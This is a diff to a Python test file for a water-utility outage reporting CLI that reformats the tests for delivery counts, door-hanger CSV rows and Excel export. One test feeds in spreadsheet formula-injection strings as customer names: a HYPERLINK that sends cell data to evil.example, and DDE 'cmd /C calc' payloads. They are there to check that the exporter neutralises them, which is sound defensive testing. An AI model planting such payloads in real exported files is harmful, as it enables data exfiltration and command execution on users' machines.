@@ -32,9 +32,16 @@ def test_outage_json_has_the_count_of_each_delivery_state_per_channel(
     assert result.exit_code == 0, result.output
     data = json.loads(result.stdout)
     assert data["deliveries"]["sms"] == {
-        "pending": 0, "sending": 0, "sent": 5, "delivered": 1, "undelivered": 0, "failed": 2,
-        "skipped": 8, "expired": 0, "superseded": 0,
-    }  # fmt: skip
+        "pending": 0,
+        "sending": 0,
+        "sent": 5,
+        "delivered": 1,
+        "undelivered": 0,
+        "failed": 2,
+        "skipped": 8,
+        "expired": 0,
+        "superseded": 0,
+    }
     assert data["deliveries"]["email"]["pending"] == 2
     assert data["coverage"]["share"] == 0.3333
     assert data["door_hangers"]["count"] == 8
@@ -46,25 +53,50 @@ def test_outage_csv_is_the_door_hanger_list(db: Database, run_cli: Run) -> None:
     result = run_cli("report", "--outage", str(seed.outage_id), "--csv", "--now", NOW)
     assert result.exit_code == 0, result.output
     rows = _csv(result.stdout)
-    assert rows[0] == ["account_id", "name", "address", "phone", "email", "critical", "reason",
-                       "detail"]  # fmt: skip
+    assert rows[0] == [
+        "account_id",
+        "name",
+        "address",
+        "phone",
+        "email",
+        "critical",
+        "reason",
+        "detail",
+    ]
     assert [(r[0], r[6]) for r in rows[1:]] == [
-        ("A009", "no_contact"), ("A003", "no_contact"), ("A004", "opted_out"),
-        ("A005", "failed"), ("A006", "not_yet_sent"), ("A010", "invalid_contact"),
-        ("A012", "not_yet_sent"), ("A013", "mixed"),
-    ]  # fmt: skip
+        ("A009", "no_contact"),
+        ("A003", "no_contact"),
+        ("A004", "opted_out"),
+        ("A005", "failed"),
+        ("A006", "not_yet_sent"),
+        ("A010", "invalid_contact"),
+        ("A012", "not_yet_sent"),
+        ("A013", "mixed"),
+    ]
     # E.164 numbers begin with "+": neutralised like any formula.
     assert rows[3][:5] == ["A004", "Zhao Lei", "4 Water St", "'+8613900000004", ""]
 
 
 def test_formulas_in_customer_data_are_neutralised(db: Database, run_cli: Run) -> None:
-    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1",
-             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]  # fmt: skip
+    names = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ]
     with db.session() as s:
         add_area(s, "W1")
         for i, name in enumerate(names):
-            add_customer(s, f"F{i}", name=name, address="=1+1", phone=f"+861380000000{i}",
-                         email=f"-f{i}@example.org", water_area="W1")  # fmt: skip
+            add_customer(
+                s,
+                f"F{i}",
+                name=name,
+                address="=1+1",
+                phone=f"+861380000000{i}",
+                email=f"-f{i}@example.org",
+                water_area="W1",
+            )
             s.add(OptOut(channel="sms", address=f"+861380000000{i}", source="sms"))
             s.add(OptOut(channel="email", address=f"-f{i}@example.org", source="email"))
         outage = add_outage(s, start=T0)
@@ -95,8 +127,16 @@ def test_door_hangers_file_is_written_for_excel(db: Database, run_cli: Run, tmp_
     seed = seed_outage(db)
     (tmp_path / "out").mkdir()
     target = tmp_path / "out" / "hangers.csv"
-    result = run_cli("report", "--outage", str(seed.outage_id), "--json", "--now", NOW,
-                     "--door-hangers", str(target))  # fmt: skip
+    result = run_cli(
+        "report",
+        "--outage",
+        str(seed.outage_id),
+        "--json",
+        "--now",
+        NOW,
+        "--door-hangers",
+        str(target),
+    )
     assert result.exit_code == 0, result.output
     assert json.loads(result.stdout)["door_hangers"]["count"] == 8
     assert "Wrote 8 door hangers" in result.stderr
